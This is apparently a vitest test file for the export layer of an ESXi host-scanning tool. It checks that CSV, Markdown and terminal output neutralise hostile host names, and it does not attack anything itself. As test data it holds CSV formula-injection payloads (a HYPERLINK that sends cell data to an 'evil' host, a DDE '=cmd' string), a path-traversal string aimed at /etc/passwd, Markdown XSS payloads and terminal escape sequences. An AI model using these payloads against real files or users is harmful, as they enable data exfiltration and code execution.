import { describe, expect, it } from 'vitest';
import { host } from '../test-support/hosts.ts';
import { csvCell, markdownCell, neutraliseFormula, plain } from './cells.ts';
import { renderScanCsv, renderScanMarkdown, renderScanText } from './render.ts';
import { scanEstate } from './scan.ts';
import type { EstateHost } from './types.ts';

describe('cells from hostile files', () => {
  it('neutralises a formula at cell start, also after blanks (=, +, -, @, tab, CR)', () => {
    expect(['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\t=x', '\r=x', '  =HYPERLINK("http://x")', 'esx01', 'a=b'].map(neutraliseFormula)).toEqual([
      "'=1+1",
      "'+SUM(A1)",
      "'-2+3",
      "'@cmd",
      "'\t=x",
      "'\r=x",
      '\'  =HYPERLINK("http://x")',
      'esx01',
      'a=b',
    ]);
  });

  it('quotes CSV cells per RFC 4180 after neutralising', () => {
    expect(csvCell('=cmd|"/c calc"!A0')).toBe('"\'=cmd|""/c calc""!A0"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(9000)).toBe('9000');
    expect(csvCell(undefined)).toBe('');
  });

  it('keeps a Markdown cell on one line, escapes pipes, links and HTML', () => {
    expect(markdownCell('a|b')).toBe('a\\|b');
    expect(markdownCell('[click](javascript:alert(1))')).toBe('\\[click\\]\\(javascript:alert\\(1\\)\\)');
    expect(markdownCell('<img src=x onerror=alert(1)>')).toBe('&lt;img src=x onerror=alert\\(1\\)&gt;');
    expect(markdownCell('two\nlines')).toBe('two lines');
    expect(markdownCell('1. item')).toBe('1\\. item');
    expect(markdownCell('=1+2')).toBe("'=1+2");
  });

  it('strips control characters and bidi overrides from terminal text', () => {
    expect(plain('esx\u001b[31m01\u202e\u0007')).toBe('esx [31m01  ');
  });
});

const HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', '../../../etc/passwd', 'C:\\Windows\\System32\\drivers', '\\\\server\\share\\x', '@SUM(1+1)', 'esx|01\n| injected | row |'];

function hostile(): EstateHost[] {
  return HOSTILE.map((name, i) => ({
    model: host({ name, version: '7.0.3', build: '22348816', nics: [{ name: 'vmk0', ip: `10.0.0.${i + 1}`, tags: ['Management', 'VMotion'], mtu: 1500, portGroup: '-cmd' }] }),
    cluster: '+Cluster',
    provenance: { vmknics: ['=evil.csv'] },
  }));
}

describe('exports of a scan whose names are formulas, paths and Markdown', () => {
  const result = scanEstate({ hosts: hostile() });

  it('keeps path-like and formula-like host names verbatim as data in the JSON', () => {
    expect(result.hosts.map((h) => h.name)).toEqual(HOSTILE);
  });

  it('CSV: no cell starts with a formula character, every row has the header’s column count', () => {
    const csv = renderScanCsv(result);
    const lines = csv.trimEnd().split('\r\n');
    const header = lines[0]!.split(',');
    for (const line of lines.slice(1)) {
      // Quoted cells may hold commas; a minimal RFC 4180 split for the check.
      const cells = [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
      expect(cells).toHaveLength(header.length);
      for (const c of cells) expect(c).not.toMatch(/^[\s]*[=+\-@\t\r]/);
    }
    expect(csv).toContain('"\'=HYPERLINK(""http://evil/?""&A1,""x"")"');
    expect(csv).toContain("'+Cluster");
  });

  it('Markdown: a name cannot add table rows or cells', () => {
    const md = renderScanMarkdown(result);
    const hostRows = md.split('\n').filter((l) => l.startsWith('| ') && l.includes("'+Cluster"));
    expect(hostRows).toHaveLength(HOSTILE.length);
    for (const row of hostRows) expect(row.split(/(?<!\\)\|/).length - 2).toBe(7);
    expect(md).not.toContain('| injected |');
  });

  it('text: a name cannot forge output lines', () => {
    const text = renderScanText(result);
    expect(text).not.toMatch(/\n\| injected/);
    expect(text).toContain('esx|01 | injected | row |');
  });
});
